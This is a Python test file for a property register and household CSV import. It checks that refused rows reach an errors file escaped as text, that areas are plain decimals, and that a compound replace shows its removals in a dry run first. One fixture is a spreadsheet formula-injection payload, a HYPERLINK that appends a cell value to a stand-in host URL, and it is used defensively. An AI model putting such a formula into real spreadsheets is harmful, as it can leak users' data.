"""The property register's import, hardened (attacker review of owners' votes, finding 7): a
refused row's cells reach the errors file as text no spreadsheet runs (here and in the older
household import), an area is a plain decimal ("1_000" is not), and a whole-compound replace
removes the units a new register no longer lists, named in the dry run first."""

from __future__ import annotations

import csv
from pathlib import Path

from conftest import City
from test_import import grids  # noqa: F401
from test_import import row as household_row
from test_import import write_csv as write_households
from test_property_register import new_compound, row, units, write_csv

from server.admin import property_register
from server.admin.registry_import import import_households

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点我")'


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as errors:
        return [cell for line in csv.reader(errors) for cell in line]


def test_a_refused_register_row_reaches_the_errors_file_as_text(city: City,
                                                                tmp_path: Path) -> None:
    compound = new_compound(city)
    path = write_csv(tmp_path / "units.csv", [
        row(compound, 1, 产权人=FORMULA, 面积来源="听说"),  # refused for its source
        row(compound, 2, 专有部分面积="1_000"),
        row(compound, 3, 专有部分面积=" 1_0.5")])
    summary = property_register.import_units(city.couch, path)
    assert summary.refused == 3 and summary.error_file is not None
    written = cells(summary.error_file)
    assert FORMULA not in written and "'" + FORMULA in written
    assert not units(city, compound)


def test_a_refused_household_row_reaches_the_errors_file_as_text(
        city: City, grids: tuple[str, str], tmp_path: Path) -> None:  # noqa: F811
    grid, _ = grids
    path = write_households(tmp_path / "households.csv", [
        household_row(grid, 7, 户主姓名=FORMULA, 状态="失踪")])
    summary = import_households(city.couch, path, progress=None)
    assert summary.refused == 1 and summary.error_file is not None
    written = cells(summary.error_file)
    assert FORMULA not in written and "'" + FORMULA in written


def test_a_whole_compound_replace_removes_missing_units_named_in_the_dry_run(
        city: City, tmp_path: Path) -> None:
    compound = new_compound(city)
    first = write_csv(tmp_path / "first.csv", [row(compound, n) for n in (1, 2, 3)])
    property_register.import_units(city.couch, first)
    second = write_csv(tmp_path / "second.csv", [row(compound, n) for n in (1, 3)])
    kept = property_register.import_units(city.couch, second)  # an update never removes
    assert kept.removed == [] and len(units(city, compound)) == 3
    gone = f"property_unit:{compound}:3-2-102"
    dry = property_register.import_units(city.couch, second, dry_run=True, replace=True)
    assert dry.removed == [gone] and gone in dry.text(True) and len(units(city, compound)) == 3
    done = property_register.import_units(city.couch, second, replace=True)
    assert done.removed == [gone] and sorted(units(city, compound)) == [
        f"property_unit:{compound}:3-2-101", f"property_unit:{compound}:3-2-103"]
